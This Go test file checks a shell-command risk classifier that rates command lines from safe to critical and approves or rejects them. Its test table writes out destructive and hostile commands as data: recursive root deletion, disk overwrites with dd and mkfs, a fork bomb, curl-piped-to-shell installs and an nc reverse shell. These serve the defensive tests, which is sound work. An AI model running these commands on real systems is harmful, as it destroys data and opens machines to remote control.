package tcp

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"
)

// decideTests are command lines with the decision the rules must give.
// tool and why (a substring of the reason) are checked when not empty.
var decideTests = []struct {
	name, line string
	risk       Risk
	tool, why  string
}{
	// plain commands and the built-in table
	{"simple listing", "ls -la /tmp", Safe, "ls", "built-in table"},
	{"path to a tool", "/usr/bin/ls", Safe, "ls", ""},
	{"escaped alias", `\rm file`, MediumRisk, "rm", "deletes files"},
	{"only version", "shutdown --version", Safe, "shutdown", "version or help"},
	{"unknown tool", "frobnicate --all", MediumRisk, "frobnicate", "unknown tool: default caution"},
	{"versioned name", "python3.12 -c 'print(1)'", MediumRisk, "python3.12", "inline"},
	{"assignment only", "FOO=bar", Safe, "", "only sets shell variables"},
	{"assignment prefix", "LANG=C sort names.txt", Safe, "sort", ""},
	{"comment", "ls # rm -rf /", Safe, "ls", ""},

	// deletion
	{"rm file", "rm notes.txt", MediumRisk, "rm", "deletes files"},
	{"rm -rf dir", "rm -rf build", HighRisk, "rm", "recursive forced deletion"},
	{"rm -r -f", "rm -r -f build", HighRisk, "rm", "recursive forced"},
	{"rm long options", "rm --recursive --force build", HighRisk, "rm", "recursive forced"},
	{"rm -rf /", "rm -rf /", Critical, "rm", "recursive deletion of '/'"},
	{"rm -fr ~", "rm -fr ~", Critical, "rm", "'~'"},
	{"rm -rf star", "rm -rf *", Critical, "rm", "'*'"},
	{"rm -rf /*", "rm -rf /*", Critical, "rm", "'/*'"},
	{"rm -Rf $HOME/", "rm -Rf $HOME/", Critical, "rm", ""},
	{"rm empty variable", `rm -rf "$STEAMROOT/"*`, Critical, "rm", ""},
	{"rm top-level dir", "rm -rf /usr/", Critical, "rm", ""},
	{"rm deep path", "rm -rf /usr/local/share/doc/foo", HighRisk, "rm", ""},
	{"rm after --", "rm -rf -- /", Critical, "rm", ""},
	{"rm star not recursive", "rm *", HighRisk, "rm", "every file"},
	{"rm system file", "rm /etc/hosts", HighRisk, "rm", "system files"},
	{"xargs rm", "find . -name '*.pyc' | xargs rm -f", HighRisk, "rm", "xargs rm"},
	{"find -delete", "find /tmp -name '*.tmp' -delete", HighRisk, "find", "-delete"},
	{"find -exec rm", `find . -name '*.o' -exec rm -f {} \;`, HighRisk, "find", ""},
	{"find / -delete", "find / -delete", Critical, "find", ""},
	{"find -exec grep", "find . -name '*.go' -exec grep -l TODO {} +", Safe, "find", ""},
	{"find -exec chmod 777", "find . -type d -exec chmod 777 {} ;", HighRisk, "find", "world-writable"},
	{"shred", "shred -u key.pem", HighRisk, "shred", ""},
	{"shred disk", "shred -n 3 /dev/sdb", Critical, "shred", ""},

	// disks and filesystems
	{"dd to disk", "dd if=/dev/zero of=/dev/sda bs=1M", Critical, "dd", "block device"},
	{"dd to nvme", "dd if=img of=/dev/nvme0n1", Critical, "dd", ""},
	{"dd to file", "dd if=/dev/zero of=swapfile bs=1M count=1024", MediumRisk, "dd", "writes a file"},
	{"redirect to disk", "cat image.iso > /dev/sdb", Critical, "cat", "block device"},
	{"redirect alone to disk", "> /dev/sda", Critical, "", "block device"},
	{"tee to disk", "cat img | sudo tee /dev/sdc", Critical, "tee", ""},
	{"cp to disk", "cp debian.iso /dev/sdb", Critical, "cp", ""},
	{"mkfs", "mkfs.ext4 /dev/sdb1", Critical, "mkfs.ext4", "filesystem"},
	{"mkfs -t", "mkfs -t vfat /dev/sdc1", Critical, "mkfs", ""},
	{"fdisk list", "fdisk -l", LowRisk, "fdisk", "lists"},
	{"fdisk device", "fdisk /dev/sda", Critical, "fdisk", "partition table"},
	{"parted print", "parted /dev/sda print", LowRisk, "parted", ""},
	{"parted mklabel", "parted -s /dev/sda mklabel gpt", Critical, "parted", ""},
	{"wipefs list", "wipefs /dev/sdb", LowRisk, "wipefs", ""},
	{"wipefs -a", "wipefs -a /dev/sdb", Critical, "wipefs", ""},
	{"sysrq", "echo b > /proc/sysrq-trigger", Critical, "echo", "sysrq"},

	// permissions and ownership
	{"chmod +x", "chmod +x run.sh", LowRisk, "chmod", ""},
	{"chmod 777", "chmod 777 upload", HighRisk, "chmod", "world-writable"},
	{"chmod o+w", "chmod o+w shared", HighRisk, "chmod", "world-writable"},
	{"chmod a=rwx", "chmod a=rwx shared", HighRisk, "chmod", "world-writable"},
	{"chmod -R 777", "chmod -R 777 www", HighRisk, "chmod", ""},
	{"chmod -R 777 /", "chmod -R 777 /", Critical, "chmod", ""},
	{"chmod u+s", "chmod u+s helper", HighRisk, "chmod", "setuid"},
	{"chmod 4755", "chmod 4755 helper", HighRisk, "chmod", "setuid"},
	{"chmod -x mode", "chmod -x script.sh", LowRisk, "chmod", ""},
	{"chmod -R 755", "chmod -R 755 public", MediumRisk, "chmod", "recursive"},
	{"chown", "chown alice report.pdf", MediumRisk, "chown", ""},
	{"chown -R /", "chown -R nobody /", Critical, "chown", ""},
	{"chown -R /home", "chown -R bob:bob /home", Critical, "chown", ""},

	// git (push --force is HIGH: it rewrites history others share)
	{"git status", "git status", Safe, "git", ""},
	{"git -C log", "git -C ../repo log --oneline", Safe, "git", ""},
	{"git push", "git push origin main", MediumRisk, "git", ""},
	{"git push -f", "git push -f origin main", HighRisk, "git", "--force"},
	{"git push --force-with-lease", "git push --force-with-lease", HighRisk, "git", ""},
	{"git push +refspec", "git push origin +main", HighRisk, "git", ""},
	{"git reset --hard", "git reset --hard HEAD~2", HighRisk, "git", "--hard"},
	{"git reset path", "git reset HEAD file.go", LowRisk, "git", "unstages"},
	{"git clean -fd", "git clean -fd", HighRisk, "git", ""},
	{"git clean -n", "git clean -nd", Safe, "git", ""},
	{"git checkout -- .", "git checkout -- .", HighRisk, "git", ""},
	{"git restore --staged", "git restore --staged a.go", LowRisk, "git", ""},

	// processes and power
	{"kill", "kill 1234", MediumRisk, "kill", ""},
	{"kill -9", "kill -9 1234", HighRisk, "kill", "SIGKILL"},
	{"kill -KILL", "kill -KILL 1234", HighRisk, "kill", ""},
	{"kill -s KILL", "kill -s KILL 1234", HighRisk, "kill", ""},
	{"kill -HUP", "kill -HUP 1234", LowRisk, "kill", ""},
	{"kill -0", "kill -0 1234", Safe, "kill", ""},
	{"kill init", "kill 1", Critical, "kill", "init"},
	{"kill all", "kill -9 -1", Critical, "kill", "every process"},
	{"killall", "killall nginx", HighRisk, "killall", ""},
	{"pkill -HUP", "pkill -HUP nginx", MediumRisk, "pkill", ""},
	{"pkill -f", "pkill -f celery", HighRisk, "pkill", ""},
	{"shutdown", "shutdown -r +5", Critical, "shutdown", ""},
	{"shutdown -c", "shutdown -c", LowRisk, "shutdown", ""},
	{"reboot", "reboot", Critical, "reboot", ""},
	{"systemctl reboot", "systemctl reboot", Critical, "systemctl", ""},
	{"systemctl restart", "systemctl restart nginx", HighRisk, "systemctl", ""},
	{"systemctl status", "systemctl status nginx", Safe, "systemctl", ""},

	// network, firewall
	{"curl pipe sh", "curl -fsSL https://x.sh | sh", Critical, "sh", "downloaded"},
	{"wget pipe sudo bash", "wget -qO- https://x.sh | sudo -E bash -", Critical, "bash", ""},
	{"curl pipe through grep", "curl -s https://x | grep -v '#' | bash", Critical, "bash", ""},
	{"curl to file then run", "curl -fsSLo get.sh https://x/get.sh && sh get.sh", Critical, "sh", "downloaded"},
	{"process substitution", "bash <(curl -s https://x/install)", Critical, "bash", ""},
	{"sh -c download", `sh -c "$(wget -qO- https://x/i.sh)"`, Critical, "", ""},
	{"curl to jq", "curl -s https://api/x | jq .", LowRisk, "curl", ""},
	{"curl post", "curl -d @body.json https://api/x", MediumRisk, "curl", "sends data"},
	{"nc -e", "nc -e /bin/sh 10.0.0.1 4444", Critical, "nc", ""},
	{"iptables -F", "iptables -F", HighRisk, "iptables", "flushes"},
	{"iptables list", "iptables -nvL", Safe, "iptables", ""},
	{"iptables append", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT", HighRisk, "iptables", ""},
	{"ip link down", "ip link set dev eth0 down", HighRisk, "ip", ""},

	// privilege
	{"sudo ls", "sudo ls /root", HighRisk, "ls", "sudo"},
	{"sudo options", "sudo -u www-data -H git pull", HighRisk, "git", "sudo"},
	{"sudo -i", "sudo -i", HighRisk, "sudo", "root shell"},
	{"sudo rm -rf /", "sudo rm -rf /", Critical, "rm", ""},
	{"su", "su - postgres", HighRisk, "su", ""},
	{"su -c", "su -c 'systemctl stop nginx' root", HighRisk, "systemctl", ""},
	{"doas", "doas reboot", Critical, "reboot", ""},
	{"redirect to /etc", `echo "nameserver 1.1.1.1" > /etc/resolv.conf`, HighRisk, "echo", "system file"},
	{"redirect overwrite", "echo hi > notes.txt", MediumRisk, "echo", "overwrites"},
	{"redirect append", "echo hi >> notes.txt", LowRisk, "echo", "appends"},
	{"stderr to null", "make 2>/dev/null", LowRisk, "make", ""},

	// wrappers and structure
	{"env wrapper", "env -i PATH=/bin rm -rf /", Critical, "rm", ""},
	{"nohup background", "nohup rm -rf / &", Critical, "rm", ""},
	{"timeout", "timeout -s KILL 10 rm -rf ~", Critical, "rm", ""},
	{"nice", "nice -n 19 rm -rf build", HighRisk, "rm", ""},
	{"time", "time make -j8", LowRisk, "make", ""},
	{"exec", "exec rm -rf /", Critical, "rm", ""},
	{"watch", "watch -n 5 'rm -rf /tmp/cache'", HighRisk, "rm", ""},
	{"most severe part wins", "ls && rm -rf / ; echo done", Critical, "rm", ""},
	{"first of equals", "ls | grep x", Safe, "ls", ""},
	{"subshell", "(cd /; rm -rf *)", Critical, "rm", ""},
	{"command substitution", "echo $(rm -rf ~)", Critical, "rm", ""},
	{"backquotes", "echo `shutdown now`", Critical, "shutdown", ""},
	{"arithmetic is no command", "echo $((1 + 2))", Safe, "echo", ""},
	{"if block", "if [ -d x ]; then rm -rf x; fi", HighRisk, "rm", ""},
	{"fork bomb", ":(){ :|:& };:", Critical, ":", "fork bomb"},
	{"ssh remote", "ssh web1 'sudo reboot'", Critical, "reboot", "remote host"},
	{"ssh read-only", "ssh web1 df -h", LowRisk, "ssh", ""},
	{"bash -c", `bash -c "rm -rf /"`, Critical, "rm", ""},
	{"eval", `eval "rm -rf ~"`, Critical, "rm", ""},
	{"many words", "echo " + strings.Repeat("word ", 100), Safe, "echo", ""},

	// containers, orchestration, cloud, packages, databases
	{"docker ps", "docker ps -a", Safe, "docker", ""},
	{"docker run", "docker run --rm alpine echo hi", MediumRisk, "docker", ""},
	{"docker run privileged", "docker run --privileged ubuntu", HighRisk, "docker", "host"},
	{"docker socket", "docker run -v /var/run/docker.sock:/var/run/docker.sock img", HighRisk, "docker", ""},
	{"docker container rm", "docker container rm -f web", HighRisk, "docker", ""},
	{"docker volume prune", "docker volume prune -f", HighRisk, "docker", ""},
	{"kubectl get", "kubectl get pods -A", Safe, "kubectl", ""},
	{"kubectl delete", "kubectl delete ns staging", HighRisk, "kubectl", ""},
	{"kubectl delete all ns", "kubectl delete pods --all -A", Critical, "kubectl", ""},
	{"terraform destroy", "terraform destroy", Critical, "terraform", ""},
	{"aws delete", "aws rds delete-db-instance --db-instance-identifier prod", HighRisk, "aws", ""},
	{"aws describe", "aws rds describe-db-instances", Safe, "aws", ""},
	{"apt install", "apt install -y htop", MediumRisk, "apt", ""},
	{"apt purge", "apt-get purge nginx", HighRisk, "apt-get", ""},
	{"pip install", "pip install requests", MediumRisk, "pip", ""},
	{"npm test", "npm test", LowRisk, "npm", ""},
	{"drop database", `mysql -e "DROP DATABASE shop"`, Critical, "mysql", ""},
	{"select", `psql -c "SELECT count(*) FROM users"`, Safe, "psql", ""},
}

func TestDecide(t *testing.T) {
	for _, tt := range decideTests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := Decide(nil, tt.line)
			if err != nil {
				t.Fatalf("Decide(%q): %v", tt.line, err)
			}
			if d.Risk != tt.risk || tt.tool != "" && d.Tool != tt.tool || !strings.Contains(d.Reason, tt.why) {
				t.Errorf("Decide(%q) = %v, tool %q, %q\nwant %v, tool %q, reason with %q", tt.line, d.Risk, d.Tool, d.Reason, tt.risk, tt.tool, tt.why)
			}
			checkInvariants(t, d)
		})
	}
}

// checkInvariants checks what every decision must satisfy.
func checkInvariants(t *testing.T, d Decision) {
	t.Helper()
	if d.Flags.Risk() != d.Risk || d.Flags&RiskMask != d.Risk.Flag() {
		t.Errorf("flags %v disagree with risk %v", d.Flags, d.Risk)
	}
	if d.Verdict != d.Risk.Verdict() {
		t.Errorf("verdict %v for risk %v", d.Verdict, d.Risk)
	}
	if d.Reason == "" {
		t.Errorf("no reason for %q", d.Command)
	}
}

func TestDecideFlags(t *testing.T) {
	d, _ := Decide(nil, "sudo curl -o /tmp/x https://x && rm -rf y")
	want := FlagPrivilegeEscalation | FlagRequiresRoot | FlagNetworkAccess | FlagFileModification | FlagDestructive | FlagHighRisk
	if d.Flags != want {
		t.Errorf("flags %v, want %v", d.Flags, want)
	}
	if d.Verdict != RequireApproval || d.Source != SourceRule {
		t.Errorf("verdict %v, source %v", d.Verdict, d.Source)
	}
	if d, _ := Decide(nil, "frobnicate"); d.Source != SourceDefault || d.Verdict != Caution {
		t.Errorf("unknown tool: source %v verdict %v", d.Source, d.Verdict)
	}
	if d, _ := Decide(nil, "uptime"); d.Source != SourceTable {
		t.Errorf("uptime: source %v", d.Source)
	}
}

// TestDecideDB checks how descriptors and rules combine: a descriptor gives
// the base risk; argument rules raise it; subcommand rules replace it.
func TestDecideDB(t *testing.T) {
	var buf bytes.Buffer
	err := WriteDB(&buf, []Entry{
		{Name: "frobnicate", Flags: FlagHighRisk | FlagSystemModification},
		{Name: "uptime", Flags: FlagCritical},
		{Name: "git", Flags: FlagMediumRisk | FlagNetworkAccess},
		{Name: "rm", Flags: FlagSafe},
	})
	if err != nil {
		t.Fatal(err)
	}
	db, err := OpenDB(buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		line   string
		risk   Risk
		source Source
	}{
		{"frobnicate --now", HighRisk, SourceDescriptor},
		{"uptime", Critical, SourceDescriptor},
		{"git status", Safe, SourceRule},
		{"git frob", MediumRisk, SourceDescriptor},
		{"rm -rf /", Critical, SourceRule},
		{"ls", Safe, SourceTable},
		{"unknowntool", MediumRisk, SourceDefault},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			d, err := Decide(db, tt.line)
			if err != nil || d.Risk != tt.risk || d.Source != tt.source {
				t.Errorf("got %v from %v (%q), %v; want %v from %v", d.Risk, d.Source, d.Reason, err, tt.risk, tt.source)
			}
		})
	}
	d, _ := Decide(db, "frobnicate")
	if d.Flags&FlagSystemModification == 0 {
		t.Errorf("descriptor flags lost: %v", d.Flags)
	}
}

func TestDecideErrors(t *testing.T) {
	tests := []struct {
		name, line string
		want       error
		text       string
	}{
		{"empty", "", ErrEmpty, "command line: col 1: no command: the line is empty or only a comment"},
		{"blank", " \t ", ErrEmpty, "command line: col 1: no command: the line is empty or only a comment"},
		{"comment", "# rm -rf /", ErrEmpty, "command line: col 1: no command: the line is empty or only a comment"},
		{"NUL", "ls\x00rm -rf /", ErrNUL, "command line: col 3: NUL byte: a shell cannot pass it in a command line (remove it)"},
		{"single quote", "echo 'oops", ErrQuote, "command line: col 6: unbalanced single quote: no closing ' (close it, or escape it as \\')"},
		{"double quote", `ls; echo "a b`, ErrQuote, `command line: col 10: unbalanced double quote: no closing " (close it, or escape it as \")`},
		{"backquote", "echo `date", ErrQuote, "command line: col 6: unbalanced backquote: no closing ` (close the command substitution)"},
		{"trailing backslash", `echo a\`, ErrEscape, "command line: col 7: backslash at the end of the line escapes nothing (remove it, or write \\\\)"},
		{"open substitution", "echo $(date", ErrSyntax, "command line: col 6: unclosed command substitution: no ) for this ( (close it)"},
		{"quote in substitution", "echo $(echo 'x)", ErrQuote, "command line: col 13: unbalanced single quote inside $( … ) (close it)"},
		{"error inside substitution", "ls $(echo |)", ErrSyntax, "command line: col 11: missing command after |"},
		{"pipe first", "| ls", ErrSyntax, "command line: col 1: missing command before |"},
		{"pipe last", "ls |", ErrSyntax, "command line: col 4: missing command after |"},
		{"and last", "make &&", ErrSyntax, "command line: col 6: missing command after &&"},
		{"double pipe", "ls | | wc", ErrSyntax, "command line: col 6: missing command before |"},
		{"close paren", "ls )", ErrSyntax, "command line: col 4: unbalanced ): no ( before it (remove it or quote it)"},
		{"open paren", "(ls", ErrSyntax, "command line: col 4: unclosed ( at the end of the line (add the closing ))"},
		{"redirect target", "ls >", ErrSyntax, "command line: col 4: redirection > has no target (add a file name after it)"},
		{"open brace expansion", "echo ${HOME", ErrSyntax, "command line: col 6: unclosed ${ (add the closing })"},
		{"bad sh -c script", `ls; sh -c "echo 'x"`, ErrQuote, "command line: col 5: in the command given to sh -c: unbalanced single quote: no closing ' (close it, or escape it as \\') (at its col 6)"},
		{"bad ssh command", `ssh host echo '"x'`, ErrQuote, "command line: col 1: in the command given to ssh: unbalanced double quote"},
		{"nested sh -c", `ls; sh -c "sh -c \"echo 'x\""`, ErrQuote, "command line: col 5: in the command given to sh -c: unbalanced single quote"},
		{"bad script in substitution", `echo $(sh -c "'")`, ErrQuote, "command line: col 8: in the command given to sh -c"},
		{"deep eval", strings.Repeat("eval ", 12) + "ls", ErrNesting, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := Decide(nil, tt.line)
			if !errors.Is(err, tt.want) {
				t.Fatalf("Decide(%q) err = %v, want %v", tt.line, err, tt.want)
			}
			var se *SyntaxError
			if !errors.As(err, &se) {
				t.Fatalf("err is %T, want *SyntaxError", err)
			}
			if tt.text != "" && !strings.HasPrefix(err.Error(), tt.text) {
				t.Errorf("text\n got %s\nwant %s", err, tt.text)
			}
			if se.Offset < 0 || se.Offset > len(tt.line) {
				t.Errorf("offset %d outside the line", se.Offset)
			}
			if d.Verdict != Reject || d.Risk != Critical || !strings.Contains(d.Reason, err.Error()) {
				t.Errorf("decision on error = %+v, want a fail-closed REJECT", d)
			}
		})
	}
}

func TestHostileLines(t *testing.T) {
	long := strings.Repeat("a", 2<<20)
	if _, err := Decide(nil, "echo "+long); !errors.Is(err, ErrTooLong) || err.Error() != "command line: col 1048577: command line is 2097157 bytes, longer than the 1 MiB limit (split it, or put the script in a file)" {
		t.Errorf("2 MiB line: %v", err)
	}
	atLimit := "echo " + strings.Repeat("b", MaxLineLen-5)
	if d, err := Decide(nil, atLimit); err != nil || d.Risk != Safe {
		t.Errorf("1 MiB line: %v, %v", d.Risk, err)
	}
	quoted := `echo "` + strings.Repeat(`a\"b `, 200000) + `"`
	if d, err := Decide(nil, quoted); err != nil || d.Risk != Safe {
		t.Errorf("long quoted line: %v, %v", d.Risk, err)
	}
	nested := strings.Repeat("$(echo ", 20) + "x" + strings.Repeat(")", 20)
	if _, err := Decide(nil, "echo "+nested); !errors.Is(err, ErrNesting) {
		t.Errorf("20 nested substitutions: %v, want ErrNesting", err)
	}
	shells := strings.Repeat("sh -c '", 1) + "sh -c \"sh -c 'sh -c ls'\"" + "'"
	if _, err := Decide(nil, shells); err != nil && !errors.Is(err, ErrNesting) && !errors.Is(err, ErrQuote) {
		t.Errorf("nested sh -c: %v", err)
	}
	pipes := strings.Repeat("cat | ", 10000) + "wc -l"
	if d, err := Decide(nil, pipes); err != nil || d.Risk != Safe {
		t.Errorf("10000-stage pipeline: %v, %v", d.Risk, err)
	}
	subs := strings.Repeat("$(ls) ", 100)
	if d, err := Decide(nil, "echo "+subs); err != nil || d.Risk != Safe {
		t.Errorf("100 substitutions: %v, %v", d.Risk, err)
	}
	for _, line := range []string{"\xff\xfe rm -rf /", "rm -rf /\xff", "'", `"`, "`", "$(", "${", "\\", "&&", ";", "&", "<<", ">", "()", "(", ")"} {
		d, err := Decide(nil, line)
		if err == nil {
			checkInvariants(t, d)
		}
	}
	if d, _ := Decide(nil, "\xff\xfe rm -rf /"); d.Risk != MediumRisk {
		t.Errorf("binary command word: %v", d.Risk) // an unknown tool
	}
}

// TestFastPath checks that the fast path for lines without shell syntax
// gives exactly what the full lexer gives.
func TestFastPath(t *testing.T) {
	lines := []string{"ls -la /tmp", "  rm\t-rf   / ", "FOO=1 BAR=2", "sudo -u x env A=b nice -n 3 rm -rf ~", "git push -f", "x"}
	for _, tt := range decideTests {
		lines = append(lines, tt.line)
	}
	var buf bytes.Buffer
	if err := WriteDB(&buf, []Entry{{Name: "ls", Flags: FlagHighRisk}, {Name: "cat", Flags: FlagLowRisk | FlagNetworkAccess}, {Name: "rm", Flags: FlagSafe}}); err != nil {
		t.Fatal(err)
	}
	db, err := OpenDB(buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	lines = append(lines, "cat x", "cat --version", "rm x")
	for _, line := range lines {
		checkFastPath(t, nil, line)
		checkFastPath(t, db, line)
	}
	if d, _ := Decide(db, "ls /"); d.Risk != HighRisk || d.Source != SourceDescriptor {
		t.Errorf("ls with a descriptor: %v from %v", d.Risk, d.Source)
	}
}

func checkFastPath(t *testing.T, db Lookuper, line string) {
	t.Helper()
	fast := eval{db: db}
	p, ok := fast.simple(line)
	if !ok {
		return
	}
	full := eval{db: db}
	q, err := full.script(line, 0)
	if err != nil || decision(line, p) != decision(line, q) {
		t.Errorf("fast path differs on %q:\nfast %+v\nfull %+v, %v", line, p, q, err)
	}
}

func ExampleDecide() {
	for _, line := range []string{
		"ls -la /tmp",
		"git push --force origin main",
		"curl -fsSL https://example.com/install.sh | sudo bash",
	} {
		d, err := Decide(nil, line)
		if err != nil {
			fmt.Println(err)
			continue
		}
		fmt.Printf("%s %s: %s\n", d.Verdict, d.Risk, d.Reason)
	}
	// Output:
	// APPROVE SAFE: built-in table: reads or prints without changing anything
	// REQUIRE_APPROVAL HIGH_RISK: git push --force/--delete: rewrites or deletes history others share
	// REJECT CRITICAL: pipes content downloaded from the network into an interpreter
}
